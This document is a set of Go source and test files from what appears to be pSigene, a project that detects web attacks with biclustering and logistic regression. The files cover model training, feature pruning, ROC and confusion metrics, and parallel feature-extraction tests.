		sort.Slice(clusters, func(i, j int) bool {
			return d.WeightOf(clusters[i]) > d.WeightOf(clusters[j])
		})
		for _, c := range clusters[opts.MaxClusters:] {
			unclustered = append(unclustered, c...)
		}
		clusters = clusters[:opts.MaxClusters]
	}
	// Heat-map order.
	pos := make(map[int]int, d.NLeaves)
	for p, leaf := range d.LeafOrder() {
		pos[leaf] = p
	}
	sort.Slice(clusters, func(i, j int) bool { return pos[clusters[i][0]] < pos[clusters[j][0]] })
	return clusters, unclustered
}

func allLeaves(d *Dendrogram) []int {
	out := make([]int, d.NLeaves)
	for i := range out {
		out[i] = i
	}
	return out
}

// weightedZeroFraction is the weighted fraction of zero cells in the rows
// of m given by leaves, over all columns. Only the nonzero count per row
// is needed, so the CSR backing pays O(1) per row.
func weightedZeroFraction(m matrix.RowMatrix, leaves []int, weights []float64) float64 {
	cols := float64(m.Cols())
	var zeros, total float64
	for _, i := range leaves {
		w := weights[i]
		zeros += w * (cols - float64(matrix.RowNNZ(m, i)))
		total += w * cols
	}
	if total == 0 {
		return 0
	}
	return zeros / total
}

// discriminatingFeatures returns the columns whose weighted support (the
// fraction of the cluster's samples in which the feature is nonzero) meets
// minSupport, sorted by column index.
func discriminatingFeatures(m matrix.RowMatrix, leaves []int, weights []float64, minSupport float64) []int {
	var totalW float64
	support := make([]float64, m.Cols())
	for _, i := range leaves {
		w := weights[i]
		totalW += w
		cols, vals := m.RowNonZeros(i)
		if cols == nil {
			for j, v := range vals {
				if v != 0 {
					support[j] += w
				}
			}
			continue
		}
		for _, j := range cols {
			support[j] += w
		}
	}
	var out []int
	for j, s := range support {
		if totalW > 0 && s/totalW >= minSupport {
			out = append(out, j)
		}
	}
	sort.Ints(out)
	return out
}

// orderFeatures orders the selected features by clustering their
// standardized profiles restricted to the cluster's rows — the
// within-cluster column dendrogram of the biclustering procedure. The
// global column statistics are used, matching a standardize-then-restrict
// pipeline, and nothing is densified.
func orderFeatures(m matrix.RowMatrix, st matrix.ColStats, leaves, features []int, workers int) []int {
	if len(features) <= 2 {
		return append([]int(nil), features...)
	}
	d, err := matrix.StandardizedColumnDistancesParallel(m, st, leaves, features, workers)
	if err != nil {
		return append([]int(nil), features...)
	}
	dend, err := UPGMA(d, nil)
	if err != nil {
		return append([]int(nil), features...)
	}
	order := dend.LeafOrder()
	out := make([]int, len(order))
	for k, idx := range order {
		out[k] = features[idx]
	}
	return out
}
