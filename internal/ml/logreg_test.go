package ml

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"

	"psigene/internal/matrix"
)

func TestSigmoid(t *testing.T) {
	cases := []struct{ z, want float64 }{
		{0, 0.5},
		{1000, 1},
		{-1000, 0},
	}
	for _, c := range cases {
		if got := Sigmoid(c.z); math.Abs(got-c.want) > 1e-9 {
			t.Fatalf("Sigmoid(%v)=%v, want %v", c.z, got, c.want)
		}
	}
	// Symmetry: g(z) + g(-z) = 1.
	for _, z := range []float64{0.1, 1, 3.7, 42} {
		if got := Sigmoid(z) + Sigmoid(-z); math.Abs(got-1) > 1e-12 {
			t.Fatalf("Sigmoid(%v)+Sigmoid(-%v)=%v, want 1", z, z, got)
		}
	}
}

func TestSigmoidMonotoneProperty(t *testing.T) {
	f := func(a, b float64) bool {
		if math.IsNaN(a) || math.IsNaN(b) {
			return true
		}
		if a == b {
			return true
		}
		lo, hi := math.Min(a, b), math.Max(a, b)
		return Sigmoid(lo) <= Sigmoid(hi)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// separableData builds a linearly separable two-class problem.
func separableData(rng *rand.Rand, n int) (*matrix.Dense, []float64) {
	rows := make([][]float64, 0, 2*n)
	y := make([]float64, 0, 2*n)
	for i := 0; i < n; i++ {
		rows = append(rows, []float64{rng.NormFloat64() + 3, rng.NormFloat64()})
		y = append(y, 1)
		rows = append(rows, []float64{rng.NormFloat64() - 3, rng.NormFloat64()})
		y = append(y, 0)
	}
	m, _ := matrix.NewFromRows(rows)
	return m, y
}

func TestTrainLogisticSeparable(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	x, y := separableData(rng, 100)
	model, err := TrainLogistic(x, y, nil, TrainOptions{})
	if err != nil {
		t.Fatalf("TrainLogistic: %v", err)
	}
	var correct int
	for i := 0; i < x.Rows(); i++ {
		p := model.Predict(x.Row(i))
		if (p >= 0.5) == (y[i] == 1) {
			correct++
		}
	}
	acc := float64(correct) / float64(x.Rows())
	if acc < 0.98 {
		t.Fatalf("training accuracy %.3f, want >= 0.98 on separable data", acc)
	}
	// The separating dimension must carry the dominant positive weight.
	if model.Weights[0] <= 0 || math.Abs(model.Weights[0]) < math.Abs(model.Weights[1]) {
		t.Fatalf("weights=%v: dimension 0 should dominate positively", model.Weights)
	}
}

func TestTrainLogisticProbabilitiesCalibrated(t *testing.T) {
	// On symmetric data the decision boundary passes near the origin:
	// P(x=0) ≈ 0.5.
	rng := rand.New(rand.NewSource(2))
	x, y := separableData(rng, 200)
	model, err := TrainLogistic(x, y, nil, TrainOptions{})
	if err != nil {
		t.Fatal(err)
	}
	// The decision boundary along dimension 0 (-bias/w0) sits near zero for
	// symmetric classes.
	boundary := -model.Bias / model.Weights[0]
	if math.Abs(boundary) > 0.5 {
		t.Fatalf("decision boundary at %v, want near 0", boundary)
	}
	if model.Predict([]float64{6, 0}) < 0.95 {
		t.Fatal("deep positive point should have high probability")
	}
	if model.Predict([]float64{-6, 0}) > 0.05 {
		t.Fatal("deep negative point should have low probability")
	}
}

func TestTrainLogisticErrors(t *testing.T) {
	x, _ := matrix.NewFromRows([][]float64{{1}, {2}})
	if _, err := TrainLogistic(x, []float64{1}, nil, TrainOptions{}); err == nil {
		t.Fatal("label length mismatch: want error")
	}
	if _, err := TrainLogistic(x, []float64{1, 2}, nil, TrainOptions{}); err == nil {
		t.Fatal("non-binary label: want error")
	}
	if _, err := TrainLogistic(x, []float64{1, 1}, nil, TrainOptions{}); err != ErrOneClass {
		t.Fatal("single class: want ErrOneClass")
	}
	if _, err := TrainLogistic(x, []float64{1, 0}, []float64{1}, TrainOptions{}); err == nil {
		t.Fatal("weight length mismatch: want error")
	}
	empty := matrix.MustNew(0, 3)
	if _, err := TrainLogistic(empty, nil, nil, TrainOptions{}); err != ErrNoData {
		t.Fatal("empty matrix: want ErrNoData")
	}
}

// TestWeightedEqualsRepeated verifies sample weights are equivalent to
// repeating samples — the property that lets a deduplicated corpus train
// the same model as the expanded one.
func TestWeightedEqualsRepeated(t *testing.T) {
	x, _ := matrix.NewFromRows([][]float64{{2, 1}, {-2, 0}, {1, -1}})
	y := []float64{1, 0, 1}
	w := []float64{3, 2, 1}

	var expRows [][]float64
	var expY []float64
	for i := 0; i < 3; i++ {
		for k := 0; k < int(w[i]); k++ {
			expRows = append(expRows, x.RowCopy(i))
			expY = append(expY, y[i])
		}
	}
	xe, _ := matrix.NewFromRows(expRows)

	opts := TrainOptions{L2: 0.01, GradTol: 1e-10}
	mw, err := TrainLogistic(x, y, w, opts)
	if err != nil {
		t.Fatal(err)
	}
	me, err := TrainLogistic(xe, expY, nil, opts)
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(mw.Bias-me.Bias) > 1e-5 {
		t.Fatalf("bias: weighted %v vs expanded %v", mw.Bias, me.Bias)
	}
	for j := range mw.Weights {
		if math.Abs(mw.Weights[j]-me.Weights[j]) > 1e-5 {
			t.Fatalf("weight %d: weighted %v vs expanded %v", j, mw.Weights[j], me.Weights[j])
		}
	}
}

func TestPredictPanicsOnDimensionMismatch(t *testing.T) {
	m := &LogisticModel{Weights: []float64{1, 2}}
	defer func() {
		if recover() == nil {
			t.Fatal("want panic")
		}
	}()
	m.Predict([]float64{1})
}

func TestTheta(t *testing.T) {
	m := &LogisticModel{Bias: -3.7, Weights: []float64{0.2, 0.7}}
	th := m.Theta()
	if len(th) != 3 || th[0] != -3.7 || th[2] != 0.7 {
		t.Fatalf("Theta=%v", th)
	}
}

func TestPruneDropsNoiseFeatures(t *testing.T) {
	// Feature 0 is informative; features 1..4 are pure noise.
	rng := rand.New(rand.NewSource(5))
	rows := make([][]float64, 0, 400)
	y := make([]float64, 0, 400)
	for i := 0; i < 200; i++ {
		pos := []float64{rng.NormFloat64() + 3}
		neg := []float64{rng.NormFloat64() - 3}
		for j := 0; j < 4; j++ {
			pos = append(pos, rng.NormFloat64())
			neg = append(neg, rng.NormFloat64())
		}
		rows = append(rows, pos, neg)
		y = append(y, 1, 0)
	}
	x, _ := matrix.NewFromRows(rows)
	model, err := TrainLogistic(x, y, nil, TrainOptions{})
	if err != nil {
		t.Fatal(err)
	}
	pr, err := Prune(x, y, nil, model, TrainOptions{}, 0.2)
	if err != nil {
		t.Fatalf("Prune: %v", err)
	}
	if len(pr.Kept) >= 5 {
		t.Fatalf("pruning kept all %d features", len(pr.Kept))
	}
	found := false
	for _, k := range pr.Kept {
		if k == 0 {
			found = true
		}
	}
	if !found {
		t.Fatalf("informative feature 0 was pruned; kept=%v", pr.Kept)
	}
	if len(pr.Kept)+len(pr.Dropped) != 5 {
		t.Fatalf("kept+dropped=%d, want 5", len(pr.Kept)+len(pr.Dropped))
	}
	if len(pr.Model.Weights) != len(pr.Kept) {
		t.Fatalf("refit model has %d weights for %d kept features", len(pr.Model.Weights), len(pr.Kept))
	}
}

func TestPruneKeepsAtLeastOneFeature(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	x, y := separableData(rng, 50)
	model, err := TrainLogistic(x, y, nil, TrainOptions{})
	if err != nil {
		t.Fatal(err)
	}
	pr, err := Prune(x, y, nil, model, TrainOptions{}, 10) // absurd threshold
	if err != nil {
		t.Fatal(err)
	}
	if len(pr.Kept) != 1 {
		t.Fatalf("kept=%v, want exactly the strongest feature", pr.Kept)
	}
}

func TestPruneDimensionMismatch(t *testing.T) {
	x, _ := matrix.NewFromRows([][]float64{{1, 2}, {3, 4}})
	model := &LogisticModel{Weights: []float64{1}}
	if _, err := Prune(x, []float64{0, 1}, nil, model, TrainOptions{}, 0.1); err == nil {
		t.Fatal("want error on weight/column mismatch")
	}
}

// TestOptimumHasZeroGradient is a black-box check of the PCG/Newton
// optimizer: at the returned parameters, the numerically estimated gradient
// of the L2-regularized negative log-likelihood is ~0 in every coordinate.
func TestOptimumHasZeroGradient(t *testing.T) {
	rng := rand.New(rand.NewSource(9))
	x, y := separableData(rng, 60)
	const l2 = 0.05
	model, err := TrainLogistic(x, y, nil, TrainOptions{L2: l2, GradTol: 1e-10})
	if err != nil {
		t.Fatal(err)
	}

	// Independent loss implementation.
	loss := func(theta []float64) float64 {
		var l float64
		for i := 0; i < x.Rows(); i++ {
			z := theta[0]
			for j, v := range x.Row(i) {
				z += theta[j+1] * v
			}
			l += math.Log(1+math.Exp(z)) - y[i]*z
		}
		for j := 1; j < len(theta); j++ {
			l += 0.5 * l2 * theta[j] * theta[j]
		}
		return l
	}
	theta := model.Theta()
	const h = 1e-5
	for j := range theta {
		up := append([]float64(nil), theta...)
		dn := append([]float64(nil), theta...)
		up[j] += h
		dn[j] -= h
		grad := (loss(up) - loss(dn)) / (2 * h)
		if math.Abs(grad) > 1e-3 {
			t.Fatalf("gradient[%d]=%v at the reported optimum", j, grad)
		}
	}
}
