// Package ml implements the machine-learning substrate of pSigene's fourth
// phase: binary logistic regression trained with the Preconditioned
// Conjugate Gradients method (PCG, Eisenstat 1981) inside a truncated-Newton
// loop, coefficient-based feature pruning, and the evaluation metrics
// (confusion counts, TPR/FPR, ROC curves) used throughout the paper's
// evaluation section.
package ml

import (
	"errors"
	"fmt"
	"math"

	"psigene/internal/matrix"
)

// Sigmoid is the logistic function g(z) = 1/(1+e^-z) used as the hypothesis
// of every generalized signature.
func Sigmoid(z float64) float64 {
	// Split on sign for numerical stability at large |z|.
	if z >= 0 {
		return 1 / (1 + math.Exp(-z))
	}
	e := math.Exp(z)
	return e / (1 + e)
}

// LogisticModel is a trained binary logistic-regression classifier:
// P(attack | x) = g(Bias + Weights·x).
type LogisticModel struct {
	Bias    float64
	Weights []float64
}

// Predict returns P(class=1 | x).
func (m *LogisticModel) Predict(x []float64) float64 {
	if len(x) != len(m.Weights) {
		panic(fmt.Sprintf("ml: predict with %d features, model has %d", len(x), len(m.Weights)))
	}
	return Sigmoid(m.Bias + matrix.Dot(m.Weights, x))
}

// Theta returns the full parameter vector [Bias, Weights...] in the paper's
// Θ notation.
func (m *LogisticModel) Theta() []float64 {
	out := make([]float64, 0, len(m.Weights)+1)
	out = append(out, m.Bias)
	out = append(out, m.Weights...)
	return out
}

// TrainOptions configures logistic-regression training.
type TrainOptions struct {
	// L2 is the ridge penalty on the non-bias weights. Defaults to 1e-4.
	L2 float64
	// MaxNewtonIter bounds the outer Newton iterations. Defaults to 50.
	MaxNewtonIter int
	// MaxCGIter bounds the inner PCG iterations per Newton step. Defaults
	// to 200.
	MaxCGIter int
	// GradTol is the gradient-norm convergence threshold. Defaults to 1e-6.
	GradTol float64
}

func (o TrainOptions) withDefaults() TrainOptions {
	if o.L2 <= 0 {
		o.L2 = 1e-4
	}
	if o.MaxNewtonIter <= 0 {
		o.MaxNewtonIter = 50
	}
	if o.MaxCGIter <= 0 {
		o.MaxCGIter = 200
	}
	if o.GradTol <= 0 {
		o.GradTol = 1e-6
	}
	return o
}

// ErrNoData is returned when training is attempted with no samples.
var ErrNoData = errors.New("ml: no training samples")

// ErrOneClass is returned when all training labels are identical.
var ErrOneClass = errors.New("ml: training labels contain a single class")

// TrainLogistic fits a logistic-regression model on the rows of x (dense
// or CSR) with binary labels y (0 or 1) and optional per-sample weights w
// (nil for all ones). Sample weights let a deduplicated corpus train
// identically to the expanded one.
//
// The optimizer is truncated Newton: each outer step solves the Newton
// system H·s = -∇L with Jacobi-preconditioned conjugate gradients and then
// backtracking line search on the L2-regularized negative log-likelihood.
// All inner products against the data — margins, gradient scatter,
// Hessian-vector products — go through the RowMatrix nonzero structure, so
// a sparse training matrix costs O(nnz) per pass instead of O(rows×cols).
func TrainLogistic(x matrix.RowMatrix, y, w []float64, opts TrainOptions) (*LogisticModel, error) {
	opts = opts.withDefaults()
	n, d := x.Rows(), x.Cols()
	if n == 0 || d == 0 {
		return nil, ErrNoData
	}
	if len(y) != n {
		return nil, fmt.Errorf("ml: %d labels for %d samples", len(y), n)
	}
	if w == nil {
		w = make([]float64, n)
		for i := range w {
			w[i] = 1
		}
	}
	if len(w) != n {
		return nil, fmt.Errorf("ml: %d sample weights for %d samples", len(w), n)
	}
	var pos, neg bool
	for i, v := range y {
		switch v {
		case 0:
			neg = true
		case 1:
			pos = true
		default:
			return nil, fmt.Errorf("ml: label y[%d]=%v is not 0 or 1", i, v)
		}
	}
	if !pos || !neg {
		return nil, ErrOneClass
	}

	// theta[0] is the bias; theta[1:] the feature weights.
	theta := make([]float64, d+1)
	grad := make([]float64, d+1)
	dir := make([]float64, d+1)
	p := make([]float64, n)      // predicted probabilities
	diag := make([]float64, d+1) // Jacobi preconditioner / Hessian diagonal

	margin := func(th []float64, i int) float64 {
		return th[0] + x.RowDot(i, th[1:])
	}
	loss := func(th []float64) float64 {
		var l float64
		for i := 0; i < n; i++ {
			z := margin(th, i)
			// -log likelihood via the numerically stable log1p form:
			// log(1+e^z) - y*z.
			var lse float64
			if z > 0 {
				lse = z + math.Log1p(math.Exp(-z))
			} else {
				lse = math.Log1p(math.Exp(z))
			}
			l += w[i] * (lse - y[i]*z)
		}
		for j := 1; j <= d; j++ {
			l += 0.5 * opts.L2 * th[j] * th[j]
		}
		return l
	}

	for iter := 0; iter < opts.MaxNewtonIter; iter++ {
		// Gradient and Hessian diagonal at theta.
		for j := range grad {
			grad[j] = 0
			diag[j] = 0
		}
		for i := 0; i < n; i++ {
			p[i] = Sigmoid(margin(theta, i))
			r := w[i] * (p[i] - y[i])
			s := w[i] * p[i] * (1 - p[i])
			grad[0] += r
			diag[0] += s
			cols, vals := x.RowNonZeros(i)
			if cols == nil {
				for j, v := range vals {
					grad[j+1] += r * v
					diag[j+1] += s * v * v
				}
			} else {
				for k, j := range cols {
					v := vals[k]
					grad[j+1] += r * v
					diag[j+1] += s * v * v
				}
			}
		}
		for j := 1; j <= d; j++ {
			grad[j] += opts.L2 * theta[j]
			diag[j] += opts.L2
		}
		if matrix.Norm2(grad) <= opts.GradTol {
			break
		}

		hessVec := func(v, out []float64) {
			// out = H v where H = Xᵀ S X + λI (bias unregularized), with the
			// bias folded in as a constant column.
			for j := range out {
				out[j] = 0
			}
			for i := 0; i < n; i++ {
				xv := v[0] + x.RowDot(i, v[1:])
				s := w[i] * p[i] * (1 - p[i]) * xv
				out[0] += s
				cols, vals := x.RowNonZeros(i)
				if cols == nil {
					for j, rv := range vals {
						out[j+1] += s * rv
					}
				} else {
					for k, j := range cols {
						out[j+1] += s * vals[k]
					}
				}
			}
			for j := 1; j <= d; j++ {
				out[j] += opts.L2 * v[j]
			}
		}
		neg := make([]float64, d+1)
		for j := range neg {
			neg[j] = -grad[j]
		}
		pcg(hessVec, diag, neg, dir, opts.MaxCGIter, 1e-10)

		// Backtracking line search on the full Newton direction.
		base := loss(theta)
		gd := matrix.Dot(grad, dir)
		step := 1.0
		trial := make([]float64, d+1)
		improved := false
		for ls := 0; ls < 30; ls++ {
			copy(trial, theta)
			matrix.AXPY(step, dir, trial)
			if loss(trial) <= base+1e-4*step*gd {
				copy(theta, trial)
				improved = true
				break
			}
			step /= 2
		}
		if !improved {
			break // no descent possible; converged to numerical precision
		}
	}

	return &LogisticModel{Bias: theta[0], Weights: append([]float64(nil), theta[1:]...)}, nil
}

// pcg solves A·x = b with Jacobi (diagonal) preconditioning, writing the
// solution into x. applyA computes out = A·v.
func pcg(applyA func(v, out []float64), diag, b, x []float64, maxIter int, tol float64) {
	n := len(b)
	for i := range x {
		x[i] = 0
	}
	r := append([]float64(nil), b...) // r = b - A·0
	z := make([]float64, n)
	precond := func(r, z []float64) {
		for i := range r {
			if diag[i] > 0 {
				z[i] = r[i] / diag[i]
			} else {
				z[i] = r[i]
			}
		}
	}
	precond(r, z)
	p := append([]float64(nil), z...)
	ap := make([]float64, n)
	rz := matrix.Dot(r, z)
	bn := matrix.Norm2(b)
	if bn == 0 {
		return
	}
	for k := 0; k < maxIter; k++ {
		if matrix.Norm2(r) <= tol*bn {
			return
		}
		applyA(p, ap)
		pap := matrix.Dot(p, ap)
		if pap <= 0 {
			return // direction of non-positive curvature; stop with current x
		}
		alpha := rz / pap
		matrix.AXPY(alpha, p, x)
		matrix.AXPY(-alpha, ap, r)
		precond(r, z)
		rzNew := matrix.Dot(r, z)
		beta := rzNew / rz
		rz = rzNew
		for i := range p {
			p[i] = z[i] + beta*p[i]
		}
	}
}

// PruneResult reports the outcome of coefficient-based feature pruning.
type PruneResult struct {
	// Model is the refitted model over the kept features only.
	Model *LogisticModel
	// Kept lists the indices (into the original feature set) that survived.
	Kept []int
	// Dropped lists the pruned feature indices.
	Dropped []int
}

// Prune drops features whose standardized coefficient magnitude
// |w_j|·std_j falls below threshold·max_k(|w_k|·std_k), then refits on the
// kept columns. This reproduces the paper's observation that logistic
// regression "throws out" most biclustering features (Table VI). A
// threshold of 0 keeps everything; typical values are 0.01–0.1.
func Prune(x matrix.RowMatrix, y, w []float64, model *LogisticModel, opts TrainOptions, threshold float64) (*PruneResult, error) {
	if len(model.Weights) != x.Cols() {
		return nil, fmt.Errorf("ml: model has %d weights, matrix %d columns", len(model.Weights), x.Cols())
	}
	st := x.ColumnStats()
	imp := make([]float64, len(model.Weights))
	maxImp := 0.0
	for j, wj := range model.Weights {
		imp[j] = math.Abs(wj) * st.Std[j]
		if imp[j] > maxImp {
			maxImp = imp[j]
		}
	}
	var kept, dropped []int
	for j := range imp {
		if maxImp > 0 && imp[j] >= threshold*maxImp {
			kept = append(kept, j)
		} else {
			dropped = append(dropped, j)
		}
	}
	if len(kept) == 0 {
		// Never prune everything: keep the single most important feature.
		best := 0
		for j := range imp {
			if imp[j] > imp[best] {
				best = j
			}
		}
		kept = []int{best}
		dropped = dropped[:0]
		for j := range imp {
			if j != best {
				dropped = append(dropped, j)
			}
		}
	}
	sub, err := x.SelectCols(kept)
	if err != nil {
		return nil, err
	}
	refit, err := TrainLogistic(sub, y, w, opts)
	if err != nil {
		return nil, fmt.Errorf("refit after pruning: %w", err)
	}
	return &PruneResult{Model: refit, Kept: kept, Dropped: dropped}, nil
}
