package ml

import (
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestConfusionRates(t *testing.T) {
	var c Confusion
	// 8 attacks: 6 detected; 100 benign: 2 flagged.
	for i := 0; i < 6; i++ {
		c.Add(true, true)
	}
	for i := 0; i < 2; i++ {
		c.Add(false, true)
	}
	for i := 0; i < 2; i++ {
		c.Add(true, false)
	}
	for i := 0; i < 98; i++ {
		c.Add(false, false)
	}
	if got := c.TPR(); math.Abs(got-0.75) > 1e-12 {
		t.Fatalf("TPR=%v, want 0.75", got)
	}
	if got := c.FPR(); math.Abs(got-0.02) > 1e-12 {
		t.Fatalf("FPR=%v, want 0.02", got)
	}
	if got := c.Precision(); math.Abs(got-0.75) > 1e-12 {
		t.Fatalf("Precision=%v, want 0.75", got)
	}
	if got := c.Accuracy(); math.Abs(got-(104.0/108.0)) > 1e-12 {
		t.Fatalf("Accuracy=%v", got)
	}
	if c.F1() <= 0 || c.F1() > 1 {
		t.Fatalf("F1=%v out of range", c.F1())
	}
	if c.String() == "" {
		t.Fatal("String should render")
	}
}

func TestConfusionZeroDenominators(t *testing.T) {
	var c Confusion
	if c.TPR() != 0 || c.FPR() != 0 || c.Precision() != 0 || c.Accuracy() != 0 || c.F1() != 0 {
		t.Fatal("empty confusion must report zero rates, not NaN")
	}
}

func TestROCPerfectClassifier(t *testing.T) {
	scores := []float64{0.9, 0.8, 0.2, 0.1}
	labels := []bool{true, true, false, false}
	pts, err := ROC(scores, labels)
	if err != nil {
		t.Fatal(err)
	}
	if auc := AUC(pts); math.Abs(auc-1) > 1e-12 {
		t.Fatalf("AUC=%v, want 1 for perfect ranking", auc)
	}
	first, last := pts[0], pts[len(pts)-1]
	if first.TPR != 0 || first.FPR != 0 {
		t.Fatalf("curve must start at (0,0), got %+v", first)
	}
	if last.TPR != 1 || last.FPR != 1 {
		t.Fatalf("curve must end at (1,1), got %+v", last)
	}
}

func TestROCRandomClassifierAUCHalf(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	n := 4000
	scores := make([]float64, n)
	labels := make([]bool, n)
	for i := range scores {
		scores[i] = rng.Float64()
		labels[i] = rng.Intn(2) == 0
	}
	pts, err := ROC(scores, labels)
	if err != nil {
		t.Fatal(err)
	}
	if auc := AUC(pts); math.Abs(auc-0.5) > 0.05 {
		t.Fatalf("AUC=%v, want ~0.5 for random scores", auc)
	}
}

func TestROCHandlesTies(t *testing.T) {
	scores := []float64{0.5, 0.5, 0.5, 0.5}
	labels := []bool{true, false, true, false}
	pts, err := ROC(scores, labels)
	if err != nil {
		t.Fatal(err)
	}
	// All tied: the curve is (0,0) -> (1,1) directly.
	if len(pts) != 2 {
		t.Fatalf("got %d points, want 2", len(pts))
	}
	if auc := AUC(pts); math.Abs(auc-0.5) > 1e-12 {
		t.Fatalf("AUC=%v, want 0.5", auc)
	}
}

func TestROCErrors(t *testing.T) {
	if _, err := ROC([]float64{1}, []bool{true, false}); err == nil {
		t.Fatal("length mismatch: want error")
	}
	if _, err := ROC(nil, nil); err == nil {
		t.Fatal("empty: want error")
	}
	if _, err := ROC([]float64{1, 2}, []bool{true, true}); err == nil {
		t.Fatal("single class: want error")
	}
}

// Property: ROC curves are monotone non-decreasing in both axes and AUC is
// within [0, 1].
func TestROCMonotoneProperty(t *testing.T) {
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 20 + rng.Intn(50)
		scores := make([]float64, n)
		labels := make([]bool, n)
		labels[0], labels[1] = true, false // guarantee both classes
		for i := range scores {
			scores[i] = math.Round(rng.Float64()*10) / 10 // force ties
			if i >= 2 {
				labels[i] = rng.Intn(2) == 0
			}
		}
		pts, err := ROC(scores, labels)
		if err != nil {
			return false
		}
		for i := 1; i < len(pts); i++ {
			if pts[i].TPR < pts[i-1].TPR || pts[i].FPR < pts[i-1].FPR {
				return false
			}
		}
		auc := AUC(pts)
		return auc >= 0 && auc <= 1
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 100}); err != nil {
		t.Fatal(err)
	}
}
