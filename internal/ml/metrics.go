package ml

import (
	"fmt"
	"sort"
)

// Confusion holds binary-classification outcome counts.
type Confusion struct {
	TP, FP, TN, FN int
}

// Add accumulates one prediction: detected says whether the detector fired,
// malicious whether the sample was actually an attack.
func (c *Confusion) Add(detected, malicious bool) {
	switch {
	case detected && malicious:
		c.TP++
	case detected && !malicious:
		c.FP++
	case !detected && malicious:
		c.FN++
	default:
		c.TN++
	}
}

// TPR is the true-positive rate (detection rate): TP / (TP+FN).
func (c Confusion) TPR() float64 {
	if c.TP+c.FN == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FN)
}

// FPR is the false-positive rate: FP / (FP+TN).
func (c Confusion) FPR() float64 {
	if c.FP+c.TN == 0 {
		return 0
	}
	return float64(c.FP) / float64(c.FP+c.TN)
}

// Precision is TP / (TP+FP).
func (c Confusion) Precision() float64 {
	if c.TP+c.FP == 0 {
		return 0
	}
	return float64(c.TP) / float64(c.TP+c.FP)
}

// Accuracy is (TP+TN) / total.
func (c Confusion) Accuracy() float64 {
	tot := c.TP + c.FP + c.TN + c.FN
	if tot == 0 {
		return 0
	}
	return float64(c.TP+c.TN) / float64(tot)
}

// F1 is the harmonic mean of precision and recall.
func (c Confusion) F1() float64 {
	p, r := c.Precision(), c.TPR()
	if p+r == 0 {
		return 0
	}
	return 2 * p * r / (p + r)
}

// String renders the counts and headline rates.
func (c Confusion) String() string {
	return fmt.Sprintf("TP=%d FP=%d TN=%d FN=%d TPR=%.4f FPR=%.6f", c.TP, c.FP, c.TN, c.FN, c.TPR(), c.FPR())
}

// ROCPoint is one operating point of a detector as its decision threshold
// varies.
type ROCPoint struct {
	Threshold float64
	TPR, FPR  float64
}

// ROC computes the ROC curve for continuous scores (higher = more likely
// attack) against ground-truth labels. The returned points are ordered by
// increasing FPR and include the (0,0) and (1,1) endpoints.
func ROC(scores []float64, labels []bool) ([]ROCPoint, error) {
	if len(scores) != len(labels) {
		return nil, fmt.Errorf("ml: %d scores for %d labels", len(scores), len(labels))
	}
	if len(scores) == 0 {
		return nil, fmt.Errorf("ml: empty ROC input")
	}
	var pos, neg int
	for _, l := range labels {
		if l {
			pos++
		} else {
			neg++
		}
	}
	if pos == 0 || neg == 0 {
		return nil, fmt.Errorf("ml: ROC needs both classes (pos=%d neg=%d)", pos, neg)
	}
	idx := make([]int, len(scores))
	for i := range idx {
		idx[i] = i
	}
	sort.Slice(idx, func(a, b int) bool { return scores[idx[a]] > scores[idx[b]] })

	points := []ROCPoint{{Threshold: 1.0001, TPR: 0, FPR: 0}}
	tp, fp := 0, 0
	for k := 0; k < len(idx); {
		// Process ties together so the curve is threshold-consistent.
		s := scores[idx[k]]
		for k < len(idx) && scores[idx[k]] == s {
			if labels[idx[k]] {
				tp++
			} else {
				fp++
			}
			k++
		}
		points = append(points, ROCPoint{
			Threshold: s,
			TPR:       float64(tp) / float64(pos),
			FPR:       float64(fp) / float64(neg),
		})
	}
	return points, nil
}

// AUC integrates a ROC curve with the trapezoid rule.
func AUC(points []ROCPoint) float64 {
	var area float64
	for i := 1; i < len(points); i++ {
		dx := points[i].FPR - points[i-1].FPR
		area += dx * (points[i].TPR + points[i-1].TPR) / 2
	}
	return area
}
