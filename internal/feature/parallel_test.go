package feature

import (
	"strconv"
	"testing"
	"testing/quick"
)

// parallelCorpus derives a few hundred distinct samples from the parity
// payloads so the worker pool actually has shards to fight over.
func parallelCorpus() []string {
	out := make([]string, 0, len(parityPayloads)*40)
	for i := 0; i < 40; i++ {
		for _, p := range parityPayloads {
			out = append(out, p+"&i="+strconv.Itoa(i))
		}
	}
	return out
}

// TestSparseMatrixParallelParity demands cell-exact (==) agreement between
// the serial and parallel extractions: each sample lands in its
// preassigned slot, so assembly order — and therefore the CSR layout — is
// identical regardless of worker count.
func TestSparseMatrixParallelParity(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	samples := parallelCorpus()
	want, err := ex.SparseMatrix(samples)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{1, 2, 8, 0} {
		got, err := ex.SparseMatrixParallel(samples, w)
		if err != nil {
			t.Fatalf("workers=%d: %v", w, err)
		}
		if got.Rows() != want.Rows() || got.Cols() != want.Cols() {
			t.Fatalf("workers=%d: shape %dx%d, want %dx%d", w, got.Rows(), got.Cols(), want.Rows(), want.Cols())
		}
		for i := 0; i < want.Rows(); i++ {
			for j := 0; j < want.Cols(); j++ {
				if got.At(i, j) != want.At(i, j) {
					t.Fatalf("workers=%d: cell (%d,%d) = %v, want %v", w, i, j, got.At(i, j), want.At(i, j))
				}
			}
		}
	}
}

func TestMatrixParallelParity(t *testing.T) {
	ex, err := NewExtractor(Catalog())
	if err != nil {
		t.Fatal(err)
	}
	samples := parallelCorpus()
	want, err := ex.Matrix(samples)
	if err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{1, 2, 8, 0} {
		got, err := ex.MatrixParallel(samples, w)
		if err != nil {
			t.Fatalf("workers=%d: %v", w, err)
		}
		for i := 0; i < want.Rows(); i++ {
			for j := 0; j < want.Cols(); j++ {
				if got.At(i, j) != want.At(i, j) {
					t.Fatalf("workers=%d: cell (%d,%d) = %v, want %v", w, i, j, got.At(i, j), want.At(i, j))
				}
			}
		}
	}
}

